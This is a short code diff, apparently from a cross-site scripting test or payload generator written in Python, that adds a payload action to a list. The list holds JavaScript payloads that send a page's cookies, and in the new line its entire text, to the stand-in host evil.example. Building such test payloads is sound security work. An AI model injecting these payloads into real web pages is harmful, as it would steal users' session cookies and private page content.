@@ -4,7 +4,11 @@ import re
 from html.parser import HTMLParser
 from pathlib import Path
 
-_ACTIONS = ("alert(1)", "fetch('//evil.example/'+document.cookie)")
+_ACTIONS = (
+    "alert(1)",
+    "fetch('//evil.example/'+document.cookie)",
+    "new Image().src='https://evil.example/?q='+document.body.innerText",
+)
 _TEMPLATES = [
     line.replace("\\n", "\n").replace("\\t", "\t").replace("\\\\", "\\")
     for line in Path(__file__).with_suffix(".txt").read_text(encoding="utf-8").splitlines()
